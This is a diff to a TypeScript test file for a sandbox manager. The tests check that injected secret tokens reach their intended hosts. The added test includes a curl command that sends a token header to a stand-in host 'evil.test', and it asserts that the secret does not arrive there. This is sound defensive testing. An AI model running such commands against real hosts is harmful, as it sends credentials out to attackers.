@@ -4,7 +4,7 @@ import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vites
 
 import type { CreateOptions, LifecycleEvent, Sandbox, SandboxManager } from '../../src/index.js';
 import { startInternet, type Internet } from '../fixtures/internet.js';
-import { dockerClient, eventually, newOwner, removeAll, testManager } from '../fixtures/run.js';
+import { dockerClient, eventually, newOwner, removeAll, RUNTIMES, testManager, withNetwork } from '../fixtures/run.js';
 
 const VALUE = 'ghp_RealValueOf-the_Token.1234567890';
 /** Finds the value, and is not what it finds: it is said in the sandbox. */
@@ -93,6 +93,14 @@ describe('a secret', () => {
     ['over TLS in Basic', 'curl -s https://a.cdn.test/ -u "$TLS_TOKEN:x"', basic(VALUE, 'x')],
   ])('arrives at its host %s', async (_what, script, header) => {
     expect(await cameAs(script)).toBe(sha256(header));
+  });
+
+  it.each(RUNTIMES)('arrives from %s', async (tested) => {
+    const from = await make(manager, { runtime: withNetwork(tested) });
+    onTestFinished(() => from.destroy());
+    expect(await cameAs('curl -s http://index.test/ -H "X-Key: $PLAIN_TOKEN"', from)).toBe(sha256(VALUE));
+    expect(await cameAs('curl -s https://index.test/ -H "X-Key: $TLS_TOKEN"', from)).toBe(sha256(VALUE));
+    expect(await cameAs('curl -sk https://evil.test/ -H "X-Key: $TLS_TOKEN"', from)).not.toBe(sha256(VALUE));
   });
 
   it.each([
